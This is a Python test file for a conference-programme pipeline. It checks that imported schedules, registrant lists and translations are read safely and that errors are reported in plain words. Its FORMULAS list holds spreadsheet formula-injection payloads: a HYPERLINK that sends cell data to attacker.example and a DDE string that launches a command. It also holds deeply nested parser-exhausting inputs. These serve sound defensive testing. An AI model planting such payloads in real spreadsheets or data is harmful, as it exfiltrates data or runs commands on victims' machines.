"""The doors through which outside text comes in (`dossier import`, `dossier init`, translated inputs) read it
right and cannot turn it against the secretariat: formula-like text stays text in every workbook written, an
import that cannot be read says so in words, an item may end after midnight, and a translation's field that is
not taken is named. (The preview's door is tested in test_serve.py.)"""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import icalendar
import jsonschema
import openpyxl
import pytest

from c3voc_rules import JSON_SCHEMA
from conftest import build, html_text, pdf_text
from pipeline.assemble import assemble
from pipeline.cli import main
from pipeline.ingest import read_inputs

# What a spreadsheet may run when a cell starts with it (OWASP): each one a talk title and an affiliation.
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1 tab", "\r=1+1 carriage return"]


def _talk(n: int, title: str, start: str, duration: str, speaker: str, room: str = "Plenary") -> dict:
    return {"guid": f"00000000-0000-4000-8000-{n:012d}", "id": n, "date": start, "start": start[11:16],
            "duration": duration, "room": room, "slug": f"t-{n}", "title": title, "subtitle": "", "track": None,
            "type": "Talk", "language": "en", "abstract": "", "description": "", "links": [],
            "persons": [{"code": f"P{n}", "public_name": speaker, "biography": f"{speaker} works on prevention."}]}


def schedule(talks: list[dict], days: list[str] | None = None) -> dict:
    days = days if days is not None else sorted({t["date"][:10] for t in talks})
    return {"schedule": {"version": "1", "conference": {
        "acronym": "doors", "title": "Safe Doors", "start": days[0] if days else "", "end": days[-1] if days else "",
        "daysCount": len(days), "timeslot_duration": "00:05", "time_zone_name": "Europe/Sofia",
        "days": [{"index": i, "date": day, "rooms": {"Plenary": [t for t in talks if t["date"].startswith(day)]}}
                 for i, day in enumerate(days, 1)]}}}


@pytest.fixture(scope="module")
def hostile_event(tmp_path_factory) -> Path:
    """An event imported from a pretalx schedule whose titles start like formulas, with a reception from 23:00 to
    00:30, and an Indico list whose affiliations do the same; built (public edition)."""
    root = tmp_path_factory.mktemp("doors")
    talks = [_talk(i, title, f"2012-12-04T{9 + i:02d}:00:00+02:00", "00:45", f"Speaker {chr(65 + i)}")
             for i, title in enumerate(FORMULAS)]
    talks.append(_talk(99, "Evening reception", "2012-12-04T23:00:00+02:00", "01:30", "Speaker Z", "Terrace"))
    (root / "schedule.json").write_text(json.dumps(schedule(talks)), encoding="utf-8")
    folder = root / "event"
    assert main(["import", "schedule", str(root / "schedule.json"), "--into", str(folder), "--city", "Sofia",
                 "--country", "Bulgaria"]) == 0
    (folder / "participants.xlsx").unlink()  # the example list: the Indico import writes the real one
    registrants = ["First Name,Last Name,Email Address,Affiliation,Position,Country,Consent to be listed"]
    registrants += [f'Ana{i},Rusu{i},ana{i}@example.org,"{value}",Expert,Moldova,yes'
                    for i, value in enumerate(f.replace('"', '""') for f in FORMULAS)]
    (root / "registrants.csv").write_text("\n".join(registrants) + "\n", encoding="utf-8")
    assert main(["import", "indico", str(root / "registrants.csv"), "--into", str(folder)]) == 0
    assert build(folder, root / "out", "public") == 0
    return root


def _cells(path: Path):
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("name", ["programme.xlsx", "participants.xlsx"])
def test_imported_formula_like_text_is_stored_as_text(hostile_event, name):
    cells = list(_cells(hostile_event / "event" / name))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    stored = {c.value for c in cells if isinstance(c.value, str)}
    for typed in FORMULAS:
        assert typed.strip() in stored or typed in stored, typed


def test_imported_formula_like_text_is_printed_as_typed(hostile_event):
    out = hostile_event / "out" / "public" / "en"
    programme, participants = html_text(out / "programme.html"), html_text(out / "participants.html")
    for typed in FORMULAS:
        assert typed.strip() in programme, typed
        assert typed.strip() in participants, typed
    assert FORMULAS[0] in pdf_text(out / "programme.pdf").replace("\n", "")


def test_a_new_event_has_no_formula_cell(tmp_path, capsys):
    assert main(["init", str(tmp_path / "new"), "--title", FORMULAS[0], "--languages", "en,fr"]) == 0
    for name in ("programme.xlsx", "participants.xlsx"):
        assert [c.coordinate for c in _cells(tmp_path / "new" / name) if c.data_type == "f"] == []
    assert main(["build", "--inputs", str(tmp_path / "new"), "--out", str(tmp_path / "out"),
                 "--edition", "public"]) == 0
    assert FORMULAS[0] in html_text(tmp_path / "out" / "public" / "en" / "index.html")


def test_an_imported_item_past_midnight_builds_with_its_real_end(hostile_event):
    rows = {r[5]: r for r in openpyxl.load_workbook(hostile_event / "event" / "programme.xlsx")
            .worksheets[0].iter_rows(values_only=True)}
    assert rows["Evening reception"][1:3] == (dt.time(23, 0), "00:30 (+1)")
    out = hostile_event / "out" / "public" / "en"
    calendar = icalendar.Calendar.from_ical((out / "programme.ics").read_bytes())
    reception = next(e for e in calendar.walk("VEVENT") if str(e["summary"]) == "Evening reception")
    assert reception.decoded("dtend") - reception.decoded("dtstart") == dt.timedelta(minutes=90)
    assert reception.decoded("dtend").date() == dt.date(2012, 12, 5)
    exported = json.loads((out / "schedule.json").read_bytes())["schedule"]["conference"]
    event = next(e for d in exported["days"] for r in d["rooms"].values() for e in r if e["title"] == "Evening "
                 "reception")
    assert event["duration"] == "01:30"
    assert exported["days"][0]["day_end"].startswith("2012-12-05T00:30")
    rules = jsonschema.Draft6Validator(JSON_SCHEMA, format_checker=jsonschema.Draft6Validator.FORMAT_CHECKER)
    assert [e.message for e in rules.iter_errors(json.loads((out / "schedule.json").read_bytes()))] == []
    data = json.loads((out / "data.json").read_bytes())
    item = next(i for i in data["programme"] if i["title"] == "Evening reception")
    assert (item["date"], item["start"], item["end"], item["end_date"]) == ("2012-12-04", "23:00", "00:30",
                                                                            "2012-12-05")
    assert "23:00–00:30" in html_text(out / "programme.html")


END_CELLS = {"00:30 (+1)": True, "00:30 +1": True, "0:30 next day": True, "00h30 (lendemain)": True,
             "24:30": True, "12:30 AM (+1)": True, "00:30 J+1": True, "00:30": False}


@pytest.mark.parametrize("end,accepted", sorted(END_CELLS.items()))
def test_the_programme_says_when_an_item_ends_after_midnight(inputs_copy, end, accepted, capsys):
    programme = inputs_copy / "programme.xlsx"
    wb = openpyxl.load_workbook(programme)
    sheet = wb.worksheets[0]
    header = [c.value for c in sheet[1]]
    last = sheet.max_row
    row = [None] * len(header)
    for name, value in {"Start": "23:00", "End": end, "Type": "reception", "Title": "Night reception",
                        "Speakers": "", "Room": "Terrace"}.items():
        row[header.index(name)] = value
    row[header.index("Date")] = sheet.cell(last, header.index("Date") + 1).value
    sheet.append(row)
    wb.save(programme)
    status = main(["validate", "--inputs", str(inputs_copy)])
    err = capsys.readouterr().err
    if accepted:
        assert status == 0, err
        item = next(i for i in assemble(read_inputs(inputs_copy)[0]).programme if i.title == "Night reception")
        assert (item.end, item.ends_next_day, item.minutes) == (dt.time(0, 30), True, 90)
    else:  # a time that truly ends before it starts on the same day stays an error, with the way to say midnight
        assert status == 1
        assert (f'row {last + 1}, column "End": ends at 00:30, not after its start at 23:00 (check the start and '
                "end times; an end after midnight is written 00:30 (+1))") in err


def test_an_item_past_midnight_meets_the_next_days_first_in_its_room(inputs_copy, capsys):
    wb = openpyxl.load_workbook(inputs_copy / "programme.xlsx")
    sheet = wb.worksheets[0]
    header = [c.value for c in sheet[1]]
    first_day = sheet.cell(2, header.index("Date") + 1).value
    for values in ({"Date": first_day, "Start": "23:00", "End": "01:00 (+1)", "Title": "Night session"},
                   {"Date": first_day + dt.timedelta(days=1), "Start": "00:30", "End": "02:00", "Title": "Late"}):
        row = [None] * len(header)
        for name, value in {**values, "Type": "session", "Speakers": "", "Room": "Night hall"}.items():
            row[header.index(name)] = value
        sheet.append(row)
    wb.save(inputs_copy / "programme.xlsx")
    assert main(["validate", "--inputs", str(inputs_copy)]) == 1
    assert "00:30–02:00 overlaps row" in capsys.readouterr().err


UNREADABLE = {
    "deep.json": ("[" * 5000 + "]" * 5000, "nests deeper than 64 levels"),
    "deep-but-parsable.json": ('{"schedule":' + "[" * 200 + "]" * 200 + "}", "nests deeper than 64 levels"),
    "deep.xml": ("<schedule>" + "<a>" * 5000 + "</a>" * 5000 + "</schedule>", "nests deeper than 64 levels"),
    "latin1.json": (None, "is not UTF-8 text"),
    "no-days.json": (json.dumps(schedule([], days=[])), "the schedule has no day"),
    "no-days.xml": ("<schedule><conference><title>x</title></conference></schedule>", "the schedule has no day"),
    "wrong-shape.json": (json.dumps({"schedule": {"conference": {"days": {"a": 1}}}}),
                         "the file → schedule → conference → days is an object, where a list was expected"),
    "bad-date.json": (json.dumps(schedule([_talk(1, "T", "2012-13-45T09:00:00", "00:30", "A")])),
                      '"2012-13-45T09:00:00", not a date and time'),
    "bad-duration.json": (json.dumps(schedule([_talk(1, "T", "2012-12-04T09:00:00", "half an hour", "A")])),
                          '"half an hour", not a duration'),
    "not-json.json": ("{'schedule': 1}", "is not JSON (line 1, column 2"),
    "not-xml.xml": ("<schedule><day>", "is not well-formed XML"),
    "huge-title.json": (json.dumps(schedule([_talk(1, "x" * 40000, "2012-12-04T09:00:00", "00:30", "A")])),
                        'item 1, "Title": a text of 40,000 characters; a spreadsheet cell holds 32,767'),
}


@pytest.mark.parametrize("name", sorted(UNREADABLE))
def test_an_import_refuses_what_it_cannot_read_in_words(tmp_path, name, capsys):
    text, expected = UNREADABLE[name]
    path = tmp_path / name
    if text is None:
        path.write_bytes(json.dumps(schedule([_talk(1, "Liberté", "2012-12-04T09:00:00", "00:30", "Zoë")]),
                                    ensure_ascii=False).encode("latin-1"))
    else:
        path.write_text(text, encoding="utf-8")
    assert main(["import", "schedule", str(path), "--into", str(tmp_path / "new")]) == 1
    err = capsys.readouterr().err
    assert f"error: {path}: " in err and expected in err, err[-600:]
    assert "nothing was written" in err and not (tmp_path / "new").exists()
    # No Python in the words: no traceback, no exception's name.
    assert not re.search(r"Traceback|Error\b|Exception|NoneType|object is not", err.replace("error:", "")), err


def test_a_translation_names_the_fields_it_does_not_take(inputs_copy, capsys):
    translation = next(p for p in sorted((inputs_copy / "bios").glob("*.fr.md")))
    text = translation.read_text(encoding="utf-8")
    translation.write_text(text.replace("---\n", "---\nphoto: photos/other.jpg\npositon: Directrice\n", 1),
                           encoding="utf-8")
    assert main(["validate", "--inputs", str(inputs_copy)]) == 0
    err = capsys.readouterr().err
    shown = translation.name
    assert re.search(rf'{re.escape(shown)}, field "photo" line 2: "photo" is ignored: {re.escape(shown)} does not '
                     r"take it \(a French translation gives only position and the text below the front matter; the other"
                     r" fields come from bios/", err), err
    assert re.search(rf'{re.escape(shown)}, field "positon" line 3: "positon" is ignored: {re.escape(shown)} does '
                     r'not take it \(did you mean "position"\?', err), err
    announcement = inputs_copy / "announcement.fr.md"
    announcement.write_text(announcement.read_text(encoding="utf-8").replace(
        "---\n", "---\nstart_date: 2012-12-05\n", 1), encoding="utf-8")
    assert main(["validate", "--inputs", str(inputs_copy)]) == 0
    assert ('announcement.fr.md, field "start_date" line 2: "start_date" is ignored: announcement.fr.md does not '
            "take it (a French translation gives only title, subtitle, organisers, venue, signatory_function and the "
            "text below the front matter; the other fields come from announcement.md)") in capsys.readouterr().err


def test_a_field_no_input_takes_is_named_with_its_line(inputs_copy, capsys):
    """The same for the originals: a misspelt setting would otherwise be ignored in silence."""
    announcement = inputs_copy / "announcement.md"
    announcement.write_text(announcement.read_text(encoding="utf-8").replace("---\n", "---\ntimezon: Europe/Sofia\n", 1),
                            encoding="utf-8")
    bio = next(p for p in sorted((inputs_copy / "bios").glob("*.md")) if p.suffixes == [".md"])
    bio.write_text(bio.read_text(encoding="utf-8").replace("---\n", "---\nfoto: photos/x.jpg\n", 1), encoding="utf-8")
    assert main(["validate", "--inputs", str(inputs_copy)]) == 0
    err = capsys.readouterr().err
    assert ('announcement.md, field "timezon" line 2: "timezon" is ignored: announcement.md does not take it (did you '
            'mean "timezone"? the fields of announcement.md are listed in the manual\'s reference)') in err
    assert (f'{bio.name}, field "foto" line 2: "foto" is ignored: {bio.name} does not take it (did you mean "photo"? '
            "a bio's front matter gives name, honorific, position, organisation, country, photo)") in err
